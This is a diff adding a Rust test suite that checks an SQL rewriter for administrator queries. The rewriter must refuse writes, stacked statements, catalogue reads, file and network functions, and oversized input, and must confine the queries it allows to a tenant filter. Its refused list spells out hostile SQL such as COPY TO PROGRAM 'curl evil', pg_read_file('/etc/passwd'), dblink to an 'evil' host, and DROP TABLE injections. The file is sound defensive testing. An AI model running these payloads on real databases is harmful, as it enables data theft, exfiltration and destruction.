@@ -1,0 +1,345 @@
+//! SQL of administrators: what is refused, and what is allowed under the policy, on a real PostgreSQL.
+
+use std::collections::BTreeSet;
+
+use futures::TryStreamExt as _;
+use pellucid_connectors::admin::{AdminTable, rewrite};
+use pellucid_connectors::dialect::{ClickHouse, Dialect, Postgres as PostgresSql, Spark};
+use pellucid_connectors::plan::{Access, Column, Columns, Wire};
+use pellucid_connectors::postgres::PostgresWarehouse;
+use pellucid_connectors::sql::{Statement, TableRef};
+use pellucid_connectors::warehouse::Warehouse;
+use pellucid_core::{Filter, FilterOp};
+use proptest::prelude::*;
+
+use crate::support::compare::cells;
+use crate::support::postgres::Postgres;
+use crate::support::rows::{Cell, NAMES};
+use crate::support::tools::{run, skip};
+
+fn columns() -> Columns {
+    let types = ["text", "text", "text", "int8", "float8", "bool", "timestamp", "date"];
+    let column = |(name, native): (&&str, &str)| Column { name: (*name).to_owned(), native: native.to_owned(), nullable: true };
+    Columns::new(&PostgresSql, &NAMES.iter().zip(types).map(column).collect::<Vec<_>>())
+}
+
+fn ask(text: &str) -> Result<Statement, pellucid_connectors::SourceError> {
+    let (columns, sales, filters) =
+        (columns(), TableRef(vec!["public".into(), "sales".into()]), [Filter::new("owner", FilterOp::Eq, "acme")]);
+    let hidden = BTreeSet::from(["secret".to_owned()]);
+    let table = AdminTable { table: &sales, columns: &columns, access: Access { filters: &filters, hidden: &hidden } };
+    rewrite(&PostgresSql, text, &[table])
+}
+
+const REFUSED: &[&str] = &[
+    "",
+    ";",
+    "-- nothing",
+    // Writes, in every costume.
+    "INSERT INTO sales VALUES ('x')",
+    "UPDATE sales SET owner = 'acme'",
+    "DELETE FROM sales",
+    "TRUNCATE sales",
+    "DROP TABLE sales",
+    "CREATE TABLE t AS SELECT * FROM sales",
+    "CREATE VIEW v AS SELECT * FROM sales",
+    "SELECT * INTO t FROM sales",
+    "WITH x AS (DELETE FROM sales RETURNING *) SELECT * FROM x",
+    "WITH x AS (INSERT INTO sales SELECT * FROM sales RETURNING *) SELECT * FROM x",
+    "WITH x AS (UPDATE sales SET qty = 1 RETURNING *) SELECT * FROM x",
+    "WITH a AS (WITH b AS (DELETE FROM sales RETURNING *) SELECT * FROM b) SELECT * FROM a",
+    "SELECT * FROM (WITH b AS (DELETE FROM sales RETURNING *) SELECT * FROM b) t",
+    "MERGE INTO sales USING sales s ON true WHEN MATCHED THEN DELETE",
+    // Stacked statements and comments.
+    "SELECT 1; DELETE FROM sales",
+    "SELECT 1;;SELECT 2",
+    "SELECT 1 /* ; */ ; /* */ DROP TABLE sales",
+    "SELECT 1 --\n; DELETE FROM sales",
+    // Other statements.
+    "EXPLAIN SELECT * FROM sales",
+    "EXPLAIN ANALYZE DELETE FROM sales",
+    "eXpLaIn AnAlYzE SELECT * FROM sales",
+    "COPY sales TO '/tmp/x'",
+    "COPY sales TO PROGRAM 'curl evil'",
+    "SET ROLE admin",
+    "SET statement_timeout = 0",
+    "RESET ALL",
+    "SHOW ALL",
+    "DO $$ BEGIN DELETE FROM sales; END $$",
+    "CALL p()",
+    "PREPARE x AS SELECT 1",
+    "EXECUTE x",
+    "BEGIN",
+    "COMMIT",
+    "LOCK TABLE sales",
+    "VACUUM sales",
+    "GRANT ALL ON sales TO PUBLIC",
+    "LISTEN x",
+    "TABLE sales",
+    "(TABLE sales)",
+    "SELECT * FROM sales UNION TABLE sales",
+    "SELECT * FROM sales FOR UPDATE",
+    "SELECT * FROM sales FETCH FIRST 1 ROW ONLY FOR SHARE",
+    // Tables that are not for them.
+    "SELECT * FROM pg_catalog.pg_authid",
+    "SELECT * FROM pg_authid",
+    "SELECT * FROM information_schema.tables",
+    "SELECT * FROM other.sales",
+    "SELECT * FROM db.public.sales",
+    "SELECT * FROM \"Sales\"",
+    "SELECT * FROM sales, pg_user",
+    "SELECT * FROM sales JOIN pg_user ON true",
+    "SELECT (SELECT count(*) FROM pg_user)",
+    "SELECT 1 WHERE EXISTS (SELECT 1 FROM pg_user)",
+    "SELECT * FROM sales WHERE owner IN (SELECT usename FROM pg_user)",
+    "SELECT 1 UNION SELECT 1 FROM pg_user",
+    "SELECT * FROM LATERAL (SELECT * FROM pg_user) x",
+    "SELECT 1 ORDER BY (SELECT 1 FROM pg_user)",
+    "SELECT 1 GROUP BY (SELECT 1 FROM pg_user)",
+    "SELECT 1 HAVING EXISTS (SELECT 1 FROM pg_user)",
+    "SELECT 1 LIMIT (SELECT 1 FROM pg_user)",
+    "SELECT count(*) FILTER (WHERE EXISTS (SELECT 1 FROM pg_user)) FROM sales",
+    "SELECT sum(qty) OVER (PARTITION BY (SELECT 1 FROM pg_user)) FROM sales",
+    "SELECT sum(qty) OVER w FROM sales WINDOW w AS (ORDER BY (SELECT 1 FROM pg_user))",
+    "SELECT CASE WHEN true THEN (SELECT 1 FROM pg_user) END",
+    "SELECT * FROM sales a JOIN sales b ON EXISTS (SELECT 1 FROM pg_user)",
+    "VALUES ((SELECT 1 FROM pg_user))",
+    // WITH that hides a table.
+    "WITH pg_user AS (SELECT * FROM pg_user) SELECT * FROM pg_user",
+    "SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) a, x",
+    "SELECT * FROM a, (WITH a AS (SELECT 1) SELECT 1) b",
+    "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a",
+    "WITH RECURSIVE x AS (SELECT 1 UNION ALL SELECT * FROM x) SELECT * FROM x",
+    "WITH x AS MATERIALIZED (SELECT 1) SELECT * FROM x",
+    // Functions that read files, the network, the catalogue, or that wait.
+    "SELECT pg_read_file('/etc/passwd')",
+    "SELECT PG_READ_FILE('/etc/passwd')",
+    "SELECT pg_catalog.pg_read_file('/etc/passwd')",
+    "SELECT \"pg_read_file\"('/etc/passwd')",
+    "SELECT pg_ls_dir('/')",
+    "SELECT lo_import('/etc/passwd')",
+    "SELECT lo_export(1, '/tmp/x')",
+    "SELECT dblink('host=evil', 'SELECT 1')",
+    "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)",
+    "SELECT pg_sleep(100)",
+    "SELECT set_config('app.tenant', 'umbrella', true)",
+    "SELECT current_setting('app.tenant')",
+    "SELECT query_to_xml('SELECT * FROM sales', true, true, '')",
+    "SELECT table_to_xml('sales', true, true, '')",
+    "SELECT database_to_xml(true, true, '')",
+    "SELECT pg_terminate_backend(1)",
+    "SELECT nextval('s')",
+    "SELECT version()",
+    "SELECT current_user",
+    "SELECT now()",
+    "SELECT random()",
+    "SELECT * FROM generate_series(1, 1000000000)",
+    "SELECT generate_series(1, 1000000000)",
+    "SELECT repeat('x', 1000000000)",
+    "SELECT * FROM unnest(ARRAY[1,2])",
+    "SELECT * FROM ROWS FROM (pg_ls_dir('/'))",
+    "SELECT * FROM json_to_recordset('[]') AS x(a int)",
+    "SELECT url('http://evil')",
+    "SELECT file('/etc/passwd')",
+    "SELECT * FROM url('http://evil', CSV)",
+    "SELECT * FROM file('/etc/passwd')",
+    "SELECT * FROM s3('http://evil')",
+    "SELECT * FROM remote('evil', x)",
+    "SELECT * FROM read_csv('/etc/passwd')",
+    "SELECT * FROM parquet.`/etc/x`",
+    "SELECT load_extension('x')",
+    "SELECT count((SELECT 1 FROM pg_user))",
+    "SELECT array(SELECT usename FROM pg_user)",
+    "SELECT ARRAY[1]",
+    "SELECT ROW(1)",
+    "SELECT (sales).owner FROM sales",
+    // Types that read the catalogue, casts to anything else.
+    "SELECT 'pg_authid'::regclass",
+    "SELECT CAST('x' AS regrole)",
+    "SELECT 'x'::xml",
+    "SELECT 'x'::json -> 'a'",
+    "SELECT regclass 'sales'",
+    // Operators and literals with more to them.
+    "SELECT 1 OPERATOR(pg_catalog.+) 2",
+    "SELECT 'a' ~ 'b'",
+    "SELECT $1",
+    "SELECT ?",
+    "SELECT :p",
+    "SELECT @x",
+    "SELECT @@version",
+    "SELECT E'\\x27'",
+    "SELECT U&'\\0027'",
+    "SELECT $$x$$",
+    "SELECT $t$x$t$",
+    "SELECT 'a\\' OR 1=1 --'",
+    "SELECT 'a''''b'",
+    "SELECT \"a\"\"b\" FROM sales",
+    "SELECT N'x'",
+    "SELECT X'41'",
+    "SELECT b'1'",
+    "SELECT /*+ hint */ 1 FROM sales TABLESAMPLE SYSTEM (1)",
+    "SELECT * FROM sales AS OF TIMESTAMP '2001-01-01'",
+    "SELECT * FROM sales |> WHERE true",
+    "SELECT * FROM sales SETTINGS max_threads = 1",
+    "SELECT * FROM sales FORMAT CSV",
+    "SELECT * FROM sales PREWHERE 1",
+    "SELECT TOP 1 * FROM sales",
+    "SELECT * FROM sales CROSS APPLY (SELECT 1) x",
+    "SELECT * FROM sales LATERAL VIEW explode(x) t AS y",
+    "FROM sales",
+    "FROM sales SELECT *",
+    "SELECT * FROM sales PIVOT (sum(qty) FOR product IN ('a'))",
+    "SELECT * FROM ONLY sales",
+    "SELECT FROM sales GROUP BY ALL",
+];
+
+#[test]
+fn what_is_not_allowed_is_refused() {
+    let passed: Vec<&&str> = REFUSED.iter().filter(|text| !matches!(ask(text), Err(pellucid_connectors::SourceError::Query(_)))).collect();
+    assert!(passed.is_empty(), "{passed:#?}");
+}
+
+#[test]
+fn what_is_too_deep_or_long_is_refused_without_a_panic() {
+    let deep = [
+        format!("SELECT {}1{}", "(".repeat(10_000), ")".repeat(10_000)),
+        format!("SELECT {}1", "(".repeat(10_000)),
+        format!("SELECT {}1", "[".repeat(10_000)),
+        format!("SELECT {}true", "NOT ".repeat(10_000)),
+        format!("SELECT {}1", "- ".repeat(10_000)),
+        format!("SELECT 1{}", " + 1".repeat(10_000)),
+        format!("SELECT 1{}", " UNION SELECT 1".repeat(10_000)),
+        format!("SELECT {}1{}", "CASE WHEN ".repeat(5_000), " THEN 1 END".repeat(5_000)),
+        format!("{}SELECT 1{}", "SELECT * FROM (".repeat(3_000), ") t".repeat(3_000)),
+        format!("SELECT '{}'", "x".repeat(100_000)),
+        format!("SELECT a{} FROM sales", ".a".repeat(10_000)),
+        format!("SELECT 1 FROM sales{}", " JOIN sales ON true".repeat(5_000)),
+        "(".repeat(60_000),
+        "'".repeat(9_999),
+        "\"".repeat(9_999),
+        "/*".repeat(9_999),
+    ];
+    for text in deep {
+        let begin: String = text.chars().take(40).collect();
+        assert!(ask(&text).is_err(), "{begin}");
+    }
+    // What is just within the limits is walked without a panic, whatever comes of it.
+    for text in [
+        format!("SELECT {}1{}", "(".repeat(39), ")".repeat(39)),
+        format!("SELECT 1{}", " + 1".repeat(1_900)),
+        format!("SELECT {}1", "- ".repeat(3_900)),
+        format!("SELECT true{}", " AND true".repeat(1_900)),
+        format!("SELECT 1{}", " UNION SELECT 1".repeat(1_200)),
+    ] {
+        let _ = ask(&text);
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]
+    /// Pieces of SQL in any order: never a panic, and what passes reads the table under its policy only.
+    #[test]
+    fn no_text_panics_or_slips_through(pieces in prop::collection::vec(prop::sample::select(vec![
+        "SELECT", "*", "FROM", "sales", "pg_user", "WITH", "x", "AS", "(", ")", ",", "UNION", "ALL", "WHERE", "EXISTS", "LATERAL", "JOIN",
+        "ON", "true", "1", "'a'", "count", "pg_sleep", ".", "public", ";", "--", "/*", "*/", "DELETE", "RETURNING", "ORDER", "BY", "\"", "'", "INTO",
+        "SELECT * FROM sales", "(SELECT 1)", "SELECT 1 FROM", "WITH sales AS (SELECT 1)", "VALUES", "TABLE", "CASE", "WHEN", "END", "::", "int",
+    ]), 0..14)) {
+        if let Ok(statement) = ask(&pieces.join(" ")) {
+            // As names of columns they are harmless; nothing reads or calls them.
+            for use_of in ["FROM pg_user", "JOIN pg_user", "AS sales, pg_user", "AS x, pg_user", "pg_sleep(", "pg_sleep ("] {
+                prop_assert!(!statement.text.contains(use_of), "{}", statement.text);
+            }
+            let tables = statement.text.matches("FROM \"public\".\"sales\"").count();
+            prop_assert_eq!(tables, statement.text.matches("WHERE ((\"owner\" = $").count(), "{}", statement.text);
+            prop_assert_eq!(tables, statement.binds.len());
+            prop_assert!(!statement.text.contains("secret"), "{}", statement.text);
+        }
+    }
+}
+
+#[test]
+fn every_reference_is_under_the_policy() {
+    let allowed: &[(&str, Wire, Option<i64>)] = &[
+        ("SELECT count(*) FROM sales", Wire::Int, Some(9)),
+        ("select COUNT ( * ) from SALES", Wire::Int, Some(9)),
+        ("SELECT count(*) FROM public.sales s WHERE s.qty > 2 OR true", Wire::Int, Some(9)),
+        ("SELECT count(*) FROM \"sales\"", Wire::Int, Some(9)),
+        ("SELECT count(*) FROM sales a, sales b", Wire::Int, Some(81)),
+        ("SELECT count(*) FROM sales a LEFT JOIN sales b ON a.qty = b.qty", Wire::Int, Some(11)),
+        ("SELECT count(*) FROM (sales a CROSS JOIN sales b)", Wire::Int, Some(81)),
+        ("SELECT count(*) FROM (SELECT * FROM sales) t", Wire::Int, Some(9)),
+        ("SELECT count(*) FROM sales a, LATERAL (SELECT * FROM sales b WHERE b.qty = a.qty) l", Wire::Int, Some(10)),
+        ("WITH x AS (SELECT * FROM sales) SELECT count(*) FROM x", Wire::Int, Some(9)),
+        ("WITH sales AS (SELECT * FROM sales) SELECT count(*) FROM sales", Wire::Int, Some(9)),
+        ("WITH SALES AS (SELECT * FROM sales LIMIT 2) SELECT count(*) FROM sales", Wire::Int, Some(2)),
+        ("WITH a AS (SELECT * FROM sales), b AS (SELECT * FROM a WHERE qty > 2) SELECT count(*) FROM b", Wire::Int, Some(4)),
+        ("SELECT count(*) FROM (SELECT owner FROM sales UNION ALL SELECT owner FROM sales) u", Wire::Int, Some(18)),
+        ("SELECT count(*) FROM (SELECT owner FROM sales EXCEPT SELECT owner FROM sales) u", Wire::Int, Some(0)),
+        ("SELECT (SELECT count(*) FROM sales)", Wire::Int, Some(9)),
+        ("SELECT count(*) FROM sales WHERE EXISTS (SELECT 1 FROM sales s WHERE s.owner = 'umbrella')", Wire::Int, Some(0)),
+        ("SELECT count(*) FROM sales WHERE owner NOT IN (SELECT owner FROM sales)", Wire::Int, Some(0)),
+        ("SELECT count(*) FILTER (WHERE owner = 'umbrella') FROM sales", Wire::Int, Some(0)),
+        ("SELECT CASE WHEN EXISTS (SELECT 1 FROM sales WHERE owner = 'umbrella') THEN 1 ELSE 0 END", Wire::Int, Some(0)),
+        ("SELECT max(length(product)) FROM sales -- ' OR 1=1", Wire::Int, Some(10)),
+        ("SELECT count(*) FROM sales /* ; DROP TABLE sales */ WHERE product = 'it''s'", Wire::Int, Some(0)),
+        ("SELECT sum(n) FROM (SELECT count(*) OVER (PARTITION BY owner) AS n FROM sales LIMIT 1) t", Wire::Digits, Some(9)),
+        ("SELECT count(DISTINCT date_trunc('month', ts)) FROM sales WHERE ts >= DATE '2001-01-01'", Wire::Int, Some(3)),
+        ("SELECT count(*) FROM (VALUES (1), (2)) v", Wire::Int, Some(2)),
+        ("SELECT count(*) FROM sales WHERE product LIKE 'b%' OR product ILIKE 'N%'", Wire::Int, Some(6)),
+        ("SELECT CAST(percentile_cont(0.5) WITHIN GROUP (ORDER BY qty) AS bigint) FROM sales WHERE qty < 100", Wire::Int, Some(2)),
+    ];
+    for (text, ..) in allowed {
+        let statement = ask(text).unwrap_or_else(|e| panic!("{text}: {e}"));
+        let read = statement.text.matches("FROM \"public\".\"sales\"").count();
+        assert_eq!(read, statement.text.matches("WHERE ((\"owner\" = $").count(), "{}", statement.text);
+        assert_eq!(read, statement.binds.len(), "{}", statement.text);
+    }
+    let Some(server) = Postgres::start() else { return skip("PostgreSQL") };
+    run(async {
+        server.fill().await;
+        let warehouse = PostgresWarehouse::new(server.config("reader", ""));
+        for (text, wire, expected) in allowed {
+            let mut statement = ask(text).unwrap();
+            if *wire == Wire::Digits {
+                statement.text = format!("SELECT sum::text FROM ({}) t", statement.text);
+            }
+            let batches: Vec<_> = match warehouse.execute(statement.clone(), &[*wire]).await {
+                Ok(batches) => batches.try_collect().await.unwrap_or_else(|e| panic!("{text}: {e}")),
+                Err(e) => panic!("{text}: {e}\n{}", statement.text),
+            };
+            let found = match cells(&batches).first().and_then(|r| r.first().cloned()) {
+                Some(Cell::Int(v)) => Some(v),
+                Some(Cell::Text(v)) => v.parse().ok(),
+                _ => None,
+            };
+            assert_eq!(found, *expected, "{text}\n{}", statement.text);
+        }
+        // A hidden column is not there.
+        let e = match warehouse.execute(ask("SELECT secret FROM sales").unwrap(), &[Wire::Text]).await {
+            Ok(batches) => batches.try_collect::<Vec<_>>().await.unwrap_err(),
+            Err(e) => e,
+        };
+        assert!(e.to_string().contains("secret"), "{e}");
+    });
+}
+
+#[test]
+fn other_dialects_refuse_as_well() {
+    // Spark compares names without case, and ClickHouse reads \' as a quote inside text, which is written anew as ''.
+    let dialects: [&dyn Dialect; 2] = [&Spark { named_parameters: false }, &ClickHouse];
+    for dialect in dialects {
+        let sales = TableRef(vec!["sales".into()]);
+        let native = match dialect.name() {
+            "spark" => "Utf8",
+            _ => "String",
+        };
+        let columns = Columns::new(dialect, &[Column { name: "owner".into(), native: native.into(), nullable: true }]);
+        let (filters, hidden) = ([Filter::new("owner", FilterOp::Eq, "acme")], BTreeSet::new());
+        let table = AdminTable { table: &sales, columns: &columns, access: Access { filters: &filters, hidden: &hidden } };
+        let own = rewrite(dialect, "SELECT owner, count(*) FROM sales GROUP BY owner", &[table]).unwrap();
+        assert_eq!(own.text.matches("WHERE").count(), 1, "{}", own.text);
+        let passed: Vec<&&str> =
+            REFUSED.iter().filter(|t| !t.contains("\"Sales\"") && !t.contains("\\' OR") && rewrite(dialect, t, &[table]).is_ok()).collect();
+        assert!(passed.is_empty(), "{}: {passed:#?}", dialect.name());
+    }
+}
